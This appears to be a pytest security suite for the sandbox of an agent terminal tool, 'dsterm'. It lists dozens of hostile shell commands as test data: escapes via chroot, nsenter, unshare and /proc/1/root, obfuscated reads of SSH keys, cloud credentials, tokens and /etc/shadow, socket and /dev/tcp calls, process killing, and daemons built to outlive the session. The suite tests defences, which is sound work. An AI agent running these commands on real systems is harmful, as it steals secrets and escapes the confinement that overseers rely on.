from __future__ import annotations

import contextlib
import os
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from attack_batch import Batch, lasting_world, try_all
from attack_world import API_KEY, ENV_SECRET, HOME_SECRET, Assailant, Call, World, bash, needs_sandbox
from e2e_program import finished, wait_until

pytestmark = [
    needs_sandbox,
    pytest.mark.end_to_end,
    pytest.mark.timeout(120),
    pytest.mark.xdist_group("security-sandbox"),
]

PLANT = "python3 - <<'EOF'\nimport os, socket\n{0}\nEOF"
# Each tries to leave the mark {m} outside of the workspace.
WRITES = {
    "beside the workspace": "echo x > ../outside/{m}",
    "beside the workspace by a link": "ln -s ../outside l; echo x > l/{m}",
    "above the workspace": "echo x > ../{m}",
    "a link laid outside": "ln -s /etc/hostname ../outside/{m}",
    "a hard link laid outside": "ln README.md ../outside/{m}",
    "a file moved outside": "cp README.md n; mv n ../outside/{m}",
    "/etc": "echo x > /etc/{m}",
    "/usr/local/bin": "echo x > /usr/local/bin/{m}",
    "the home folder": "echo x > ~/{m}",
    "the user's start-up files": "echo ': > {m}' >> ~/.bashrc && : > ~/{m}",
    "the user's own programs": "mkdir -p ~/.local/bin; echo x > ~/.local/bin/{m}",
    "dsterm's state": "echo x > {home}/state/{m}",
    "dsterm's configuration": "mkdir -p {home}/config; echo x > {home}/config/{m}",
    "dsterm's home by another way": "cd {home}/..; echo x > dsterm/{m}",
    "the root of the first process": "echo x > /proc/1/root{outside}/{m}",
    "the root of the process": "echo x > /proc/self/root{outside}/{m}",
    "a folder above by its descriptor": PLANT.replace(
        "{0}",
        "d = os.open('..', os.O_RDONLY)\nos.close(os.open('outside/{m}', os.O_CREAT | os.O_WRONLY, dir_fd=d))",
    ),
    "a bind mount": "mkdir -p b; mount --bind {outside} b; echo x > b/{m}",
    "mounted anew for writing": "mount -o remount,rw /; echo x > {outside}/{m}",
    "unmounting": "umount -l {outside} / /tmp; echo x > {outside}/{m}",
    "a namespace of users": "unshare -Urm sh -c 'mount -o remount,rw /; echo x > {outside}/{m}'",
    "another root": "chroot /proc/1/root sh -c 'echo x > {outside}/{m}'",
    "the namespaces of another process": "nsenter -t 1 -a sh -c 'echo x > {outside}/{m}'",
    "a device made by hand": "mknod disk b 8 0 && : > ../outside/{m}",
    "other rights on what is outside": "chmod 777 .. ../outside && : > ../outside/{m}",
    "another owner": "chown 65534 ../outside/secret.txt && : > ../outside/{m}",
    "a file outside cut off": "truncate -s 0 ../outside/secret.txt",
    "a file outside removed": "rm -f ../outside/secret.txt",
    "a folder outside renamed": "mv ../outside ../{m}",
    "the workspace renamed": "mv ../repo ../{m}",
}

# Each would print what stands in a place that is nobody's business; spelled so that no name gives it away.
READS = {
    "a key of ssh": "cat ~/.s*h/i*",
    "a key of ssh in pieces": 'd=.ss; cat "$HOME/${d}h/id_ed""25519"',
    "a key of ssh by python": PLANT.replace(
        "{0}", "print(open(os.path.expanduser('~/.s' + 'sh/id_ed25' + '519')).read())"
    ),
    "all of the home folder": "cd ~; tar cf - . 2>/dev/null | tr -d '\\0'",
    "a search of the home folder": "grep -rs quiet-harbour ~/",
    "the cloud's credentials": "cat ~/.a*/c*",
    "the shell's history": "cat ~/.*_history",
    "a token of GitHub": "cat ~/.con*/gh/*",
    "the environment of other processes": "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; env; set",
    "the environment of the parent": "cat /proc/$PPID/environ; cat /proc/1/environ",
    "a secret file of the workspace": "cat .e*v",
    "a secret file by python": PLANT.replace("{0}", "print(open('.e' + 'nv').read())"),
    "a search of the workspace": "grep -rs quiet-harbour .",
    "a secret file by another name": "ln .e*v n; cat n; cp .e*v n2; cat n2; mv .e*v n3; cat n3",
    "dsterm's own folder": "cat {home}/*/* {home}/*/*/*; cd {home} && find . -type f -exec cat '{}' +",
    "dsterm's own folder by /proc": "cat /proc/1/root{home}/state/*; ls -lR /proc/*/fd/",
    "the keys of root": "cat /etc/sha*dow; cat /root/.s*h/*",
    "the memory of the machine": "head -c 100 /dev/mem /proc/kcore /dev/sd* /dev/vd* /dev/nvme*",
}

# Each would reach somebody who listens outside; {port} and {socket} are theirs.
CALLS = {
    "the loopback by bash": "exec 3<>/dev/tcp/127.0.0.1/{port}; echo evil >&3",
    "the loopback by python": PLANT.replace("{0}", "socket.create_connection(('127.0.0.1', {port}), 2).send(b'evil')"),
    "every address": PLANT.replace("{0}", "socket.create_connection(('0.0.0.0', {port}), 2).send(b'evil')"),
    "the address of the machine": PLANT.replace(
        "{0}", "socket.create_connection((socket.gethostname(), {port}), 2).send(b'evil')"
    ),
    "a socket on disk": PLANT.replace(
        "{0}", "s = socket.socket(socket.AF_UNIX)\ns.connect('{socket}')\ns.send(b'evil')"
    ),
    "a socket by a link": "ln -s {socket} s; "
    + PLANT.replace("{0}", "s = socket.socket(socket.AF_UNIX)\ns.connect('s')\ns.send(b'evil')"),
    "a socket without a name on disk": PLANT.replace(
        "{0}", "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0dsterm-attack-{port}')\ns.send(b'evil')"
    ),
    "curl": "c=curl; $c -s http://127.0.0.1:{port}/evil",
    "git": "g=git; $g ls-remote http://127.0.0.1:{port}/evil",
}

ODD = {
    "the kernel's settings": "f=/proc/sys/vm/overcommit_ratio; v=$(cat $f); echo $v > $f && echo loot-$((40+2))-{m}",
    "the core pattern": "f=/proc/sys/kernel/core_pattern; v=$(cat $f); echo $v > $f && echo loot-$((40+2))-{m}",
    "the terminal": "echo evil > /dev/tty && echo loot-$((40+2))-{m}",
    "the terminal of another process": "for t in /dev/pts/[0-9]*; do echo evil > $t && echo loot-$((40+2))-{m}; done",
    "words from the keyboard": "read -t 5 x && echo loot-$((40+2))-{m}",
    "processes of the machine": "kill -0 {victim} && echo loot-$((40+2))-{m}",
    "ending processes of the machine": "kill -9 {victim} && echo loot-$((40+2))-{m}",
    "ending everything": "pkill -9 -f 'sleep 3971' && echo loot-$((40+2))-{m}; kill -9 -1",
    "rights": "grep -q 'CapEff:.*[1-9a-f]' /proc/self/status && echo loot-$((40+2))-{m}",
    "new rights": "grep -q 'NoNewPrivs:.*0' /proc/self/status && echo loot-$((40+2))-{m}",
    "a debugger": PLANT.replace(
        "{0}", "import ctypes\nif ctypes.CDLL(None).ptrace(16, {victim}, 0, 0) == 0: print('loot-%d-{m}' % 42)"
    ),
}

WORKDIRS = (
    "..",
    "../outside",
    "/etc",
    "/",
    "~",
    "src/../..",
    ".git",
    ".git/hooks",
    "way-out",
    "src\u0000",
    "README.md",
    "none",
)


class Listeners:
    """Doors of the machine that nobody in the sandbox may find: over TCP, a socket on disk, and one by name."""

    def __init__(self, folder: Path) -> None:
        self.heard: list[bytes] = []
        self.path = folder / "docker.sock"
        self._is_over = threading.Event()
        tcp = socket.create_server(("0.0.0.0", 0))
        self.port = tcp.getsockname()[1]
        self._servers = [tcp]
        for name in (str(self.path), f"\0dsterm-attack-{self.port}"):
            server = socket.socket(socket.AF_UNIX)
            server.bind(name)
            server.listen()
            self._servers.append(server)
        self._threads = [threading.Thread(target=self._listen, args=(server,)) for server in self._servers]
        for thread in self._threads:
            thread.start()

    def _listen(self, server: socket.socket) -> None:
        server.settimeout(0.1)
        while not self._is_over.is_set():
            with contextlib.suppress(TimeoutError):
                peer, _ = server.accept()
                with peer:
                    peer.settimeout(1)
                    self.heard.append(peer.recv(100))

    def close(self) -> None:
        self._is_over.set()
        for thread in self._threads:
            thread.join()
        for server in self._servers:
            server.close()


def furnish(world: World) -> None:
    """A home with keys in it, and a workspace with a file of secrets and a link that leads out."""
    for name in (".ssh/id_ed25519", ".aws/credentials", ".bash_history", ".config/gh/hosts.yml"):
        path = world.user / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{HOME_SECRET}\n")
    world.put(".env", f"WORD={ENV_SECRET}\n")
    (world.repo / "way-out").symlink_to(world.outside)


@pytest.fixture(scope="module")
def tried(ground: Path, assailant: Assailant) -> Iterator[tuple[Batch, Listeners, subprocess.Popen[bytes]]]:
    """Every attempt in one run in auto mode, where commands in the sandbox run unasked."""
    with lasting_world(ground, assailant) as world, subprocess.Popen(["sleep", "3971"]) as victim:
        furnish(world)
        listeners = Listeners(world.outside)
        facts = {
            "{home}": world.home,
            "{outside}": world.outside,
            "{port}": listeners.port,
            "{socket}": listeners.path,
            "{victim}": victim.pid,
        }
        lines = {f"{group} {name}": line for group, lines in GROUPS.items() for name, line in lines.items()}
        for word, value in facts.items():
            lines = {name: line.replace(word, str(value)) for name, line in lines.items()}
        calls = {name: bash(line) for name, line in lines.items()}
        calls |= {
            f"workdir {folder!r}": bash(": > {m}; echo loot-$((40+2))-{m}", workdir=folder) for folder in WORKDIRS
        }
        try:
            yield try_all(world, calls, mode="auto"), listeners, victim
        finally:
            listeners.close()
            victim.kill()


GROUPS = {"write": WRITES, "read": READS, "call": CALLS, "odd": ODD}


@pytest.mark.parametrize("name", WRITES)
def test_a_command_leaves_nothing_outside_of_the_workspace(tried, name):
    batch, *_ = tried
    attempt = batch.tried[f"write {name}"]
    world = batch.world
    for place in (
        world.outside,
        world.user,
        world.home,
        world.folder,
        Path("/etc"),
        Path("/usr/local/bin"),
        Path("/tmp"),
    ):
        assert attempt.mark not in {path.name for path in place.iterdir()}, attempt
    for place in (world.outside, world.user, world.home):
        assert not any(place.rglob(attempt.mark)), attempt
    assert world.secret.read_text()
    assert world.repo.is_dir()
    assert not (world.user / ".bashrc").exists()


@pytest.mark.parametrize("name", READS)
def test_a_command_is_shown_no_secret(tried, name):
    batch, *_ = tried
    attempt = batch.tried[f"read {name}"]
    for secret in (HOME_SECRET, ENV_SECRET, API_KEY, "root:$", "root:*"):
        assert secret not in attempt.result
        batch.outcome.nowhere(secret)
    assert ".jsonl" not in attempt.result
    assert (batch.world.repo / ".env").read_text() == f"WORD={ENV_SECRET}\n"


@pytest.mark.parametrize("name", CALLS)
def test_a_command_reaches_nobody_who_listens(tried, name):
    batch, listeners, _ = tried
    assert listeners.heard == []
    assert batch.tried[f"call {name}"].ending in {"failed", "refused"}


@pytest.mark.parametrize("name", ODD)
def test_a_command_has_no_hand_on_the_machine(tried, name):
    batch, _, victim = tried
    batch.held(f"odd {name}")
    assert victim.poll() is None


@pytest.mark.parametrize("folder", WORKDIRS)
def test_no_workdir_leads_out(tried, folder):
    batch, *_ = tried
    batch.held(f"workdir {folder!r}")
    assert batch.tried[f"workdir {folder!r}"].ending == "failed"


def test_listeners_can_be_reached_where_nothing_confines(tmp_path):
    listeners = Listeners(tmp_path)
    with socket.create_connection(("127.0.0.1", listeners.port)) as peer:
        peer.send(b"hello")
        wait_until(lambda: listeners.heard)
    listeners.close()


def test_the_secrets_can_be_read_where_nothing_confines(world):
    furnish(world)
    outcome = world.attack(
        [bash(READS["a key of ssh"]), bash(READS["a secret file of the workspace"])], "--no-sandbox", mode="yolo"
    )
    assert (HOME_SECRET in outcome.results[0], ENV_SECRET in outcome.results[1]) == (True, True)


def test_temporary_folders_are_private_and_gone_afterwards(world):
    name = f"dsterm-attack-{os.getpid()}"
    places = ("/tmp", "/var/tmp", "/dev/shm", "/run")
    line = "; ".join(f"echo x > {place}/{name} && cat {place}/{name}" for place in places)
    outcome = world.attack([bash(line), bash("; ".join(f"cat {place}/{name}" for place in places))])
    outcome.stood()
    assert not any((Path(place) / name).exists() for place in places)
    assert "x" in outcome.results[0].split("\n")
    assert "x" not in outcome.results[1].split("\n")


def processes(word: str) -> list[int]:
    """The processes of the machine that have `word` in their command line."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if word.encode() in (entry / "cmdline").read_bytes() and entry.name != str(os.getpid()):
                    found.append(int(entry.name))
    return found


DAEMONS = {
    "in the background": "sleep {s} &",
    "without a terminal": "nohup sleep {s} >/dev/null 2>&1 &",
    "in a session of its own": "setsid sleep {s} &",
    "orphaned": "(setsid sleep {s} </dev/null >/dev/null 2>&1 &)",
    "twice forked and renamed": PLANT.replace(
        "{0}",
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.closerange(0, 100)\n"
        "        os.execve('/bin/sleep', ['sleep', '{s}'], {})\n    os._exit(0)",
    ),
    "deaf to signals": "(trap '' TERM HUP INT; setsid sleep {s}; sleep {s}) >/dev/null 2>&1 &",
    "two hundred of them": "for i in $(seq 200); do (trap '' TERM; setsid sleep {s}) >/dev/null 2>&1 & done",
}


def seconds(number: int) -> str:
    """A length of sleep that nobody else on this machine asks for."""
    return f"3{os.getpid()}.{number}"


@pytest.mark.parametrize("name", DAEMONS)
@pytest.mark.parametrize("in_background", [False, True], ids=["waited for", "a job"])
def test_nothing_outlives_the_program(world, name, in_background):
    word = seconds(list(DAEMONS).index(name))
    line = DAEMONS[name].replace("{s}", word)
    outcome = world.attack([bash(line, run_in_background=in_background)])
    outcome.stood()
    assert processes(word) == []


def test_a_job_ends_with_the_program(world):
    word = seconds(20)
    outcome = world.attack([bash(f"sleep {word}", run_in_background=True), bash("ls")])
    outcome.stood()
    assert processes(word) == []


@pytest.mark.parametrize("kind", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT], ids=["KILL", "TERM", "INT"])
def test_nothing_outlives_a_program_that_is_killed(world, kind):
    word = seconds(30 + kind)
    hidden = DAEMONS["twice forked and renamed"].replace("{s}", word)
    calls: list[list[Call]] = [
        [bash(f"sleep {word}", run_in_background=True), bash(f"{hidden}\ntrap '' TERM INT; sleep {word}")]
    ]
    with world.start(calls) as process:
        wait_until(lambda: len(processes(word)) >= 3)
        process.send_signal(kind)
        finished(process)
    wait_until(lambda: not processes(word))


def test_a_command_that_will_not_end_is_ended(world):
    word = seconds(50)
    began = time.monotonic()
    outcome = world.attack([bash(f"trap '' TERM INT HUP; while :; do sleep {word}; done", timeout_ms=1000)])
    outcome.stood()
    assert time.monotonic() - began < 30
    assert "timed out after 1 s" in outcome.results[0]
    assert processes(word) == []


FLOODS = {
    "lines": "yes {w} | head -c 70M",
    "one line": "head -c 65M /dev/zero | tr '\\0' x",
    "zeros": "head -c 15M /dev/zero",
    "line ends": "head -c 20M /dev/zero | tr '\\0' '\\n'",
    "colours": "yes $'\\e[31m\\e[2J' | head -c 20M",
}


@pytest.mark.parametrize("line", FLOODS.values(), ids=FLOODS.keys())
def test_a_flood_of_output_fills_neither_the_wire_nor_the_disk(world, line):
    outcome = world.attack([bash(line.replace("{w}", "wordswordswords"))])
    outcome.stood()
    assert len(outcome.results[0]) < 60_000
    assert sum(map(len, outcome.bodies)) < 400_000
    kept = sum(path.stat().st_size for path in (world.home / "state").rglob("*") if path.is_file())
    assert kept < 60_000_000
    assert "\x1b" not in outcome.wire


def test_no_more_jobs_run_at_a_time_than_a_machine_bears(world):
    word = seconds(60)
    outcome = world.attack([[bash(f"sleep {word}; : {n}", run_in_background=True) for n in range(45)]])
    outcome.stood()
    assert outcome.endings.count("failed") >= 5
    assert processes(word) == []
